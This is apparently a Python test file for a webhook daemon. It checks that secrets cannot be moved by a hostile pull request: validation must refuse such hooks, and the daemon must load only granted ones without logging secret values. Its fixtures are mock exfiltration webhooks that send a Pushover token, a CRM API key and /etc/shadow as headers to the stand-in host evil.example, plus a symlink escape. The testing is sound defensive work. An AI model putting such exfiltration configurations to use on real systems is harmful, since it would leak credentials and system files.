"""A pull request cannot move a secret (SPEC §2): the files a hostile or careless PR
would add, each trying to send one kind of secret somewhere new.

Before: a webhook sending ${credential:pushover-token}, ${file:/etc/.../crm-signing-secret}
and ${env:PUSHOVER_USER} as headers to an outside URL passed `validate` and was loaded;
${file:} followed any path and symlink.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.utils import DaemonProcess, Receiver, event, run_cli, wait_until

GRANTS = [
    {"secrets": ["${credential:crm-signing-secret}", "${env:CRM_API_KEY}"],
     "webhooks": ["crm/*"], "destinations": ["https://crm.example.com"]},
    {"secrets": ["${credential:pushover-token}", "${env:PUSHOVER_USER}"],
     "webhooks": ["alerts/*"]},
]
ATTACKS = {
    # a new webhook naming another webhook's credential
    "exfil/credential": {"X-Steal": "${credential:pushover-token}"},
    # the CRM's secrets, from a webhook id outside the grant
    "exfil/env": {"X-Api-Key": "${env:CRM_API_KEY}"},
    # a file outside secrets.dirs
    "exfil/file": {"X-Steal": "${file:/etc/shadow}"},
}


def _webhook(url: str, headers: dict[str, str] | None = None, secret: str | None = None) -> str:
    channel: dict[str, object] = {"type": "web", "url": url}
    if headers:
        channel["headers"] = headers
    if secret:
        channel["secret"] = secret
    return json.dumps({"name": url + json.dumps(headers), "events": "all", "channel": channel})


def _pull_request(directory: Path) -> None:
    (directory / "crm").mkdir(parents=True, exist_ok=True)
    (directory / "exfil").mkdir(parents=True, exist_ok=True)
    (directory / "crm" / "opens.yaml").write_text(_webhook(
        "https://crm.example.com/hook", {"X-Api-Key": "${env:CRM_API_KEY}"},
        "${credential:crm-signing-secret}"))
    for webhook_id, headers in ATTACKS.items():
        (directory / f"{webhook_id}.yaml").write_text(_webhook("https://evil.example/collect", headers))
    # A granted webhook id moving its own secret to another host.
    (directory / "crm" / "moved.yaml").write_text(_webhook(
        "https://evil.example/collect", {"X-Api-Key": "${env:CRM_API_KEY}"}))
    # ... or into a channel whose destination only the secret names (no teams.api_url):
    # no origin known is no origin allowed.
    (directory / "crm" / "teams.yaml").write_text(json.dumps({
        "name": "Teams", "events": "all", "channel": {"type": "teams", "url": "${env:CRM_API_KEY}"}}))


async def test_validate_refuses_each_secret_moved(short_tmp: Path) -> None:
    hooks = short_tmp / "hooks"
    _pull_request(hooks)
    config = short_tmp / "mailhooks.yaml"
    config.write_text(json.dumps({"secrets": {"dirs": ["/etc/mailhooks/credentials"], "grants": GRANTS}}))
    code, out, _ = await run_cli("validate", "--config", str(config), str(hooks))
    assert code == 1
    lines = out.splitlines()
    expected = {
        "exfil/credential.yaml": "exfil/credential: ${credential:pushover-token} is not granted to "
                                 "this webhook (secrets.grants)",
        "exfil/env.yaml": "exfil/env: ${env:CRM_API_KEY} is not granted to this webhook (secrets.grants)",
        "exfil/file.yaml": "exfil/file: ${file:/etc/shadow} is not in a directory of secrets.dirs",
        "crm/moved.yaml": "crm/moved: ${env:CRM_API_KEY} may not be sent to https://evil.example "
                          "(secrets.grants[0].destinations)",
        "crm/teams.yaml": "crm/teams: ${env:CRM_API_KEY} goes where only the secret says, so "
                          "secrets.grants[0].destinations cannot allow it",
    }
    for file, message in expected.items():
        assert any(file in line and message in line for line in lines), (file, out)
    assert not any("crm/opens.yaml" in line for line in lines), out
    # Every line points at the reference, line and column.
    assert all(":1:" in line for line in lines if ".yaml:" in line), out


async def test_the_daemon_loads_only_what_is_granted(
    daemon: DaemonProcess, receiver: Receiver, short_tmp: Path,
) -> None:
    credentials = short_tmp / "credentials"
    credentials.mkdir()
    (credentials / "pushover-token").write_text("pushover-token-value-0123")
    (credentials / "crm-signing-secret").write_text("crm-signing-secret-value-0123")
    outside = short_tmp / "outside-secret"
    outside.write_text("a secret outside secrets.dirs")
    (credentials / "link").symlink_to(outside)
    daemon.env.update(CREDENTIALS_DIRECTORY=str(credentials), CRM_API_KEY="crm-api-key-0123",
                      PUSHOVER_USER="pushover-user-0123")
    daemon.config["secrets"] = {"dirs": [str(credentials)], "grants": [
        {"secrets": ["${env:CRM_API_KEY}", f"${{file:{credentials}/link}}"], "webhooks": ["crm/*"]},
    ]}
    for webhook_id, headers in (("crm/ok", {"X-Api-Key": "${env:CRM_API_KEY}"}),
                                ("crm/link", {"X-Key": f"${{file:{credentials}/link}}"}),
                                ("exfil", {"X-Steal": "${credential:pushover-token}"})):
        daemon.add_webhook(webhook_id, receiver.url, channel={"headers": headers})
    await daemon.start(config_ok=False)
    _, report = await daemon.request("GET", "/webhooks")
    assert [hook["id"] for hook in report["webhooks"]] == ["crm/ok"]
    errors = "\n".join(report["errors"])
    assert "exfil: ${credential:pushover-token} is not granted to this webhook (secrets.grants)" in errors
    assert "is not in a directory of secrets.dirs" in errors  # the link leads outside
    await daemon.post(event(1))
    await wait_until(lambda: len(receiver.requests) == 1, what="the granted webhook's delivery")
    log = daemon.logs_text()
    for value in ("pushover-token-value-0123", "a secret outside secrets.dirs", "crm-api-key-0123"):
        assert value not in log and value not in json.dumps(report)
    _, status = await daemon.request("GET", "/status")
    assert status["secrets"] == "scoped"


async def test_without_grants_the_daemon_says_secrets_are_not_scoped(daemon: DaemonProcess) -> None:
    await daemon.start()
    _, status = await daemon.request("GET", "/status")
    assert status["secrets"] == "not scoped"
    assert '"secrets_not_scoped"' in daemon.logs_text()
